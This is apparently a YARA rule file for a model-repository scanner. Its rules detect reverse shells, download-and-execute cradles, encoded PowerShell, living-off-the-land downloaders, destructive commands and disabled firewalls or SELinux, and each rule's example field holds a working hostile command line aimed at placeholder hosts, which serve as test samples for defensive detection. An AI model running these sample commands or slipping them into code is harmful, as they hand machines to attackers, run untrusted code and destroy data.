// SPDX-License-Identifier: Apache-2.0
// Shells opened to the network, and downloads that are run. `example` must match, `counterexample` must not:
// the unit tests scan both. Strings named $ctx_* are surroundings and never the place that a finding shows;
// every condition needs a string of another name, else the scan is skipped (scanner/yara_filter.c; a unit test sees to it).
// Those others should be plain text, or hold four bytes that are rare in source. libyara chooses the four that it looks
// for by itself: a letter in brackets, op[e]n, says the same and keeps it from choosing common ones.

rule reverse_shell_dup2
{
    meta:
        id = "HG-YARA-001"
        title = "reverse shell: a socket is duplicated onto the standard streams of a shell"
        cwe = "CWE-506, CWE-78"
        severity = "critical"
        confidence = "high"
        description = "A socket connects out and its descriptor replaces stdin and stdout before a shell is started, which hands the machine to whoever listens."
        reference = "https://attack.mitre.org/techniques/T1059/006/"
        remedy = "Do not load this repository; report it to the hub. No model needs a shell bound to a socket."
        example = "s=socket.socket();s.connect((\"192.0.2.1\",4444))\nos.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\nsubprocess.call([\"/bin/sh\",\"-i\"])\n"
        counterexample = "saved = os.dup(1)\nos.dup2(log.fileno(), 1)\ns = socket.socket()\ns.connect((host, port))\n"
    strings:
        $dup = /dup2\(\w{1,24}\.fileno\(\), ?[012]\)/
        $ctx_connect = ".connect(("
        $ctx_sh1 = "/bin/sh"
        $ctx_sh2 = "/bin/bash"
        $ctx_sh3 = "cmd.exe"
        $ctx_sh4 = "pty.spawn("
    condition:
        #dup >= 2 and $ctx_connect and any of ($ctx_sh*)
}

rule reverse_shell_dev_tcp
{
    meta:
        id = "HG-YARA-002"
        title = "reverse shell: an interactive shell is redirected to /dev/tcp"
        cwe = "CWE-506, CWE-78"
        severity = "critical"
        confidence = "high"
        description = "bash opens a TCP connection through its /dev/tcp pseudo-device and runs a shell on it."
        reference = "https://attack.mitre.org/techniques/T1059/004/"
        remedy = "Do not load this repository; report it to the hub."
        example = "os.system(\"bash -c 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'\")\n"
        counterexample = "# wait for the port: (echo > /dev/tcp/localhost/5432) 2>/dev/null\n"
    strings:
        $a = /sh -i ?[0-9]?>&? ?\/dev\/(tcp|udp)\/[^\s\/]{2,80}\/[0-9$%{]/
        $b = /exec [0-9]{1,3}<> ?\/dev\/tcp\/[^\s\/]{2,80}\/[0-9$%{][^\n]{0,120}sh /
    condition:
        any of them
}

rule reverse_shell_netcat
{
    meta:
        id = "HG-YARA-003"
        title = "reverse shell: netcat runs a shell"
        cwe = "CWE-506, CWE-78"
        severity = "critical"
        confidence = "high"
        description = "netcat is told to start a shell on the connection, directly or through a named pipe."
        reference = "https://attack.mitre.org/techniques/T1059/004/"
        remedy = "Do not load this repository; report it to the hub."
        example = "os.popen('rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 192.0.2.1 4444 >/tmp/f')\n"
        counterexample = "subprocess.run([\"nc\", \"-z\", host, \"22\"])  # /bin/sh is not involved\n"
    strings:
        $a = /nc(at)? [^\n]{0,80}-[a-z]{0,4}[ec] ?\/bin\/(ba|z|da)?sh/
        $b = /mkfifo \/[^\n;&]{1,60}[;&][^\n]{1,80}\/bin\/(ba)?sh -i[^\n]{0,24}\| ?nc(at)? /
    condition:
        any of them
}

rule reverse_shell_pty
{
    meta:
        id = "HG-YARA-004"
        title = "reverse shell: a terminal is spawned for a network peer"
        cwe = "CWE-506, CWE-78"
        severity = "critical"
        confidence = "medium"
        description = "A shell is started on a pseudo-terminal in code that connects a socket and moves descriptors."
        reference = "https://attack.mitre.org/techniques/T1059/006/"
        remedy = "Do not load this repository; report it to the hub."
        example = "s=socket.socket();s.connect((h,p));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/bash\")\n"
        counterexample = "import pty\npty.spawn(\"/bin/bash\")\n"
    strings:
        $spawn = /pty\.spawn\(\[?['"](\/bin\/)?(ba|z|da)?sh['"]/
        $ctx_dup = "dup2("
        $ctx_connect = ".connect(("
        $ctx_fileno = ".fileno()"
    condition:
        all of them
}

rule download_to_shell_called
{
    meta:
        id = "HG-YARA-005"
        title = "a download is piped into a shell"
        cwe = "CWE-494, CWE-78"
        severity = "critical"
        confidence = "high"
        description = "A command that fetches a script and pipes it into an interpreter is passed to a function that runs commands."
        reference = "https://attack.mitre.org/techniques/T1105/"
        remedy = "Ship what is needed in the repository, or fetch it pinned by digest and read it before running it."
        example = "os.system('curl -fsSL https://example.invalid/i.sh | bash')\n"
        counterexample = "\"\"\"Install with: curl -fsSL https://example.invalid/i.sh | bash\"\"\"\nimport os\n\n\ndef clear():\n    os.system('clear')\n"
    strings:
        $pipe = /(curl|wget) [^\n|]{1,240}?\|([^\n|]{0,240}?\|){0,8}? ??(sudo )??(ba|z|da)??(sh|python3??)\b/
        $ctx_1 = "os.system("
        $ctx_2 = "os.popen("
        $ctx_3 = "subprocess.run("
        $ctx_4 = "subprocess.call("
        $ctx_5 = "subprocess.Popen("
        $ctx_6 = "subprocess.check_"
        $ctx_7 = "subprocess.getoutput("
        $ctx_8 = "subprocess.getstatusoutput("
        $ctx_9 = ".system("
    condition:
        #pipe > 500 or for any i in (1..#pipe) : ( any of ($ctx_*) in (@pipe[i] - 48 .. @pipe[i]) )
}

rule download_to_shell_text
{
    meta:
        id = "HG-YARA-006"
        title = "text that pipes a download into a shell"
        cwe = "CWE-494"
        severity = "low"
        confidence = "low"
        description = "A command line that pipes a download into an interpreter stands in the file; it may be documentation."
        reference = "https://cwe.mitre.org/data/definitions/494.html"
        remedy = "See who runs it. In documentation, recommend a pinned and verified download."
        example = "CMD = 'wget -qO- https://example.invalid/setup.sh | sudo bash'\n"
        counterexample = "CMD = 'curl -fsSLO https://example.invalid/model.bin'\n"
    strings:
        $pipe = /(curl|wget) [^\n]{0,80}?https??:\/\/[^\n|]{1,240}?\|([^\n|]{0,240}?\|){0,8}? ??(sudo )??(ba|z|da)??(sh|python3??)\b/
    condition:
        $pipe
}

rule powershell_encoded
{
    meta:
        id = "HG-YARA-007"
        title = "PowerShell is given an encoded command"
        cwe = "CWE-506, CWE-78"
        severity = "high"
        confidence = "high"
        description = "A Base64-encoded PowerShell command hides what it does from readers and logs."
        reference = "https://attack.mitre.org/techniques/T1059/001/"
        remedy = "Decode and read the command; do not load the repository before that."
        example = "powershell -nop -w hidden -enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAA==\n"
        counterexample = "powershell -NoProfile -ExecutionPolicy Bypass -File build.ps1\n"
    strings:
        $a = /p[o]w[e]rshell(\.exe)?['", ][^\n]{0,120}-e(c|nc|ncodedcommand)?['", ]{1,4}[A-Za-z0-9+\/]{40}/ nocase
    condition:
        $a
}

rule powershell_cradle
{
    meta:
        id = "HG-YARA-008"
        title = "PowerShell downloads text and evaluates it"
        cwe = "CWE-494, CWE-95"
        severity = "high"
        confidence = "high"
        description = "Net.WebClient or Invoke-WebRequest fetches a script that Invoke-Expression runs at once."
        reference = "https://attack.mitre.org/techniques/T1059/001/"
        remedy = "Do not load this repository; report it to the hub."
        example = "subprocess.run(['powershell','-c',\"IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/a')\"])\n"
        counterexample = "(New-Object Net.WebClient).DownloadFile($url, 'wheel.whl')\n"
    strings:
        $dl1 = "Net.WebClient).DownloadString(" nocase
        $dl2 = "Invoke-WebRequest" nocase
        $ctx_run1 = "Invoke-Expression" nocase
        $ctx_run2 = /\bIEX ?[\(\$]/
        $ctx_run3 = "| IEX"
    condition:
        any of ($dl*) and any of ($ctx_run*)
}

rule download_chmod_run
{
    meta:
        id = "HG-YARA-009"
        title = "a file is downloaded, made executable and started"
        cwe = "CWE-494, CWE-506"
        severity = "medium"
        confidence = "medium"
        description = "A download, a chmod that sets the executable bits and the start of a program stand within a few lines of each other."
        reference = "https://attack.mitre.org/techniques/T1105/"
        remedy = "Do not run programs that loading a model fetches; build them from source or install them from a package."
        example = "urllib.request.urlretrieve(u, '/tmp/.x')\nos.chmod('/tmp/.x', 0o755)\nsubprocess.Popen(['/tmp/.x'])\n"
        counterexample = "urllib.request.urlretrieve(u, 'w.bin')\nos.chmod('w.bin', 0o644)\nsubprocess.run(['ls'])\n"
    strings:
        $chmod = /os\.chmod\([^\n]{1,80}, ?(0o7[0-7]{2}|stat\.S_I[RWX]{1,3}[UGO])/
        $ctx_get1 = "urlretrieve("
        $ctx_get2 = "requests.get("
        $ctx_get3 = "urllib.request.urlopen("
        $ctx_get4 = "urllib2.urlopen("
        $ctx_run1 = "subprocess.Popen("
        $ctx_run2 = "subprocess.run("
        $ctx_run3 = "subprocess.call("
        $ctx_run4 = "os.system("
        $ctx_run5 = "os.execv"
        $ctx_run6 = "os.startfile("
    condition:
        for any i in (1..#chmod) : (
            any of ($ctx_get*) in (@chmod[i] - 600 .. @chmod[i]) and any of ($ctx_run*) in (@chmod[i] .. @chmod[i] + 400) )
}

rule windows_living_off_the_land
{
    meta:
        id = "HG-YARA-010"
        title = "a Windows system tool is used to fetch or run a remote file"
        cwe = "CWE-494, CWE-78"
        severity = "high"
        confidence = "medium"
        description = "certutil, bitsadmin, mshta or regsvr32 are used as a downloader or a script host."
        reference = "https://attack.mitre.org/techniques/T1218/"
        remedy = "Do not load this repository; report it to the hub."
        example = "os.system('certutil -urlcache -split -f http://example.invalid/p.exe p.exe')\n"
        counterexample = "os.system('certutil -hashfile model.bin SHA256')\n"
    strings:
        $a = /certutil(\.exe)? [^\n]{0,40}-urlcache [^\n]{0,40}https?:\/\// nocase
        $b = /b[i]tsadmin(\.exe)? [^\n]{0,60}\/tr[a]nsf[e]r [^\n]{0,60}https?:\/\// nocase
        $c = /mshta(\.exe)? (https?:\/\/|vbscript:|javascript:)/ nocase
        $d = /regsvr32(\.exe)? [^\n]{0,30}\/i:https?:\/\// nocase
    condition:
        any of them
}

rule paste_site_executed
{
    meta:
        id = "HG-YARA-011"
        title = "text fetched from the network is executed"
        cwe = "CWE-494, CWE-95"
        severity = "critical"
        confidence = "high"
        description = "The body of an HTTP answer goes straight into exec or eval: whoever controls the server controls the process."
        reference = "https://attack.mitre.org/techniques/T1059/006/"
        remedy = "Do not load this repository; report it to the hub."
        example = "exec(urllib.request.urlopen('https://pastebin.com/raw/abcd').read())\n"
        counterexample = "page = urllib.request.urlopen('https://pastebin.com/raw/abcd').read()\nprint(page)\n"
    strings:
        $a = /(ex[e]c|ev[a]l)\((compile\()?(urllib\.request\.|urllib2\.|request\.)?urlop[e]n\(/
        $get1 = "exec(requests.get("
        $get2 = "exec(httpx.get("
        $get3 = "eval(requests.get("
        $get4 = "eval(httpx.get("
        $get5 = "compile(requests.get("
        $get6 = "compile(httpx.get("
        $ctx_get = /(exec|eval)\((compile\()?(requests|httpx)\.get\([^\n]{4,200}\)\.(text|content)/
        $c = /(exec|eval)\(__import__\(['"](urllib\.request|requests|urllib2)['"]/
    condition:
        $a or $c or (any of ($get*) and $ctx_get)
}

rule destructive_command
{
    meta:
        id = "HG-YARA-012"
        title = "a command destroys files or disks"
        cwe = "CWE-506, CWE-78"
        severity = "critical"
        confidence = "high"
        description = "A whole file system or the home directory is deleted, a disk is overwritten, or a fork bomb is started, by a function that runs commands."
        reference = "https://attack.mitre.org/techniques/T1485/"
        remedy = "Do not load this repository; report it to the hub."
        example = "os.system('rm -rf / --no-preserve-root')\n"
        counterexample = "os.system('rm -rf /tmp/build-cache')\n"
    strings:
        $rm = /(r[m] -rf|r[m] -fr) (--no-preserve-root )?(\/|~\/?|\$HOME\/?|\/\*)( --no-preserve-root)?['";& ]/
        $dd = /dd if=\/dev\/(zero|u?random) of=\/dev\/(sd|nvme|vd|hd|mmc)/
        $bomb = ":(){ :|:& };:"
        $ctx_1 = "os.system("
        $ctx_2 = "os.popen("
        $ctx_3 = "subprocess."
    condition:
        (for any i in (1..#rm) : ( any of ($ctx_*) in (@rm[i] - 48 .. @rm[i]) )) or
        (for any i in (1..#dd) : ( any of ($ctx_*) in (@dd[i] - 48 .. @dd[i]) )) or
        (for any i in (1..#bomb) : ( any of ($ctx_*) in (@bomb[i] - 48 .. @bomb[i]) ))
}

rule security_disabled
{
    meta:
        id = "HG-YARA-013"
        title = "a protection of the machine is switched off"
        cwe = "CWE-693"
        severity = "high"
        confidence = "medium"
        description = "Firewall, SELinux, AppArmor or Defender is disabled by a command that the code runs."
        reference = "https://attack.mitre.org/techniques/T1562/001/"
        remedy = "Do not load this repository; no model needs a protection switched off."
        example = "os.system('setenforce 0 && iptables -F')\n"
        counterexample = "# administrators may need `setenforce 0` while debugging\nimport os\n\n\nprint(os.system('getenforce'))\n"
    strings:
        $a = /(setenforce 0|iptables -F|ufw d[i]s[a]ble|s[y]st[e]mctl (st[o]p|d[i]s[a]ble) (--now )?(firewalld|apparmor|auditd))/
        $b = /Set-MpPreference[^\n]{0,40}-DisableRealtimeMonitoring/ nocase
        $netsh = "netsh " nocase
        $ctx_firewall = /netsh (advfirewall|firewall) set [^\n]{0,40}(off|disable)/ nocase
        $ctx_run1 = "os.system("
        $ctx_run2 = "os.popen("
        $ctx_run3 = "subprocess."
    condition:
        (for any i in (1..#a) : ( any of ($ctx_run*) in (@a[i] - 60 .. @a[i]) )) or
        (for any i in (1..#b) : ( any of ($ctx_run*) in (@b[i] - 120 .. @b[i]) )) or
        ($netsh and for any i in (1..#ctx_firewall) : ( any of ($ctx_run*) in (@ctx_firewall[i] - 60 .. @ctx_firewall[i]) ))
}

rule download_chmod_run_hidden
{
    meta:
        id = "HG-YARA-014"
        title = "a file is downloaded to a temporary or hidden place, made executable and started"
        cwe = "CWE-494, CWE-506"
        severity = "high"
        confidence = "medium"
        description = "A download, a chmod that sets the executable bits and the start of a program stand within a few lines of each other, and the program lies where none belongs."
        reference = "https://attack.mitre.org/techniques/T1105/"
        remedy = "Do not run programs that loading a model fetches; build them from source or install them from a package."
        example = "urllib.request.urlretrieve(u, '/tmp/.x')\nos.chmod('/tmp/.x', 0o755)\nsubprocess.Popen(['/tmp/.x'])\n"
        counterexample = "urllib.request.urlretrieve(u, name)\nos.chmod(name, 0o755)\nsubprocess.run([name])\n"
    strings:
        $chmod = /os\.chmod\( ?['"](\/tmp\/|\/var\/tmp\/|\/dev\/shm\/|[^'"\n]{0,60}\/\.)[^\n]{1,80}, ?(0o7[0-7]{2}|stat\.S_I[RWX]{1,3}[UGO])/
        $ctx_get1 = "urlretrieve("
        $ctx_get2 = "requests.get("
        $ctx_get3 = "urllib.request.urlopen("
        $ctx_get4 = "urllib2.urlopen("
        $ctx_run1 = "subprocess.Popen("
        $ctx_run2 = "subprocess.run("
        $ctx_run3 = "subprocess.call("
        $ctx_run4 = "os.system("
        $ctx_run5 = "os.execv"
        $ctx_run6 = "os.startfile("
    condition:
        for any i in (1..#chmod) : (
            any of ($ctx_get*) in (@chmod[i] - 600 .. @chmod[i]) and any of ($ctx_run*) in (@chmod[i] .. @chmod[i] + 400) )
}
